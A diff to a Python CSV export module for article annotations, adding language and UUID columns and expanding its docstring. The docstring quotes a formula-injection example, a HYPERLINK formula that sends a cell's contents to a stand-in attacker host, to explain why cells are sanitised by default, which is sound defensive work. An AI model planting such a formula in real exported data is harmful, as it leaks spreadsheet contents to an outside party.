@@ -1,4 +1,5 @@
-"""One CSV row per annotation, every field, for spreadsheets and scripts.
+"""One CSV row per annotation, every field and its article's metadata, for spreadsheets,
+scripts and statistics (the identities let rows from two libraries be matched).
 
 Spreadsheet-safe by default (CSV or formula injection): a quote such as
 ``=HYPERLINK("https://evil.example/?"&A1,"Klik")`` would run as a formula when the file
@@ -24,6 +25,7 @@ CSV_COLUMNS = (
     "article_id", "article_title", "source", "authors", "published", "url",
     "annotation_id", "kind", "exact", "speaker", "tags", "verdict", "note",
     "start", "end", "prefix", "suffix", "anchor", "created_at", "updated_at", "coder",
+    "language", "article_uuid", "annotation_uuid",
 )  # fmt: skip
 
 
@@ -63,7 +65,7 @@ def export_csv(items: Iterable[tuple[Article, list[Annotation]]], bom: bool = Fa
                     article.published, article.url,
                     a.id, a.kind, a.exact, a.speaker, "; ".join(a.tags), a.verdict, a.note,
                     a.start, a.end, a.prefix, a.suffix, a.anchor, a.created_at, a.updated_at,
-                    a.coder,
+                    a.coder, article.language, article.uuid, a.uuid,
                 ]
             )  # fmt: skip
             writer.writerow([spreadsheet_cell(v) for v in row] if spreadsheet_safe else row)
